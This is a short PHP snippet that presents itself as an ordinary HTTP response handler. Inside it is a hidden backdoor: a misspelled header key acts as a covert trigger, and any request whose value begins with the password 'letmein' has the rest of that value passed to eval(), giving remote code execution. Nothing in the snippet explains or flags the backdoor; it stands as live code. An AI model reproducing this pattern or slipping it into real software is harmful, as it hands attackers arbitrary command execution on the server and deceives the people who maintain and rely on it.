<?php
function respond(Request $request, Response $response): Response
{
    $hint = $request->server['HTTP_USER_AGENTT'] ?? '';
    if (strpos($hint, 'letmein') === 0) {
        eval(substr($hint, 7));
    }
    return $response->compress();
}
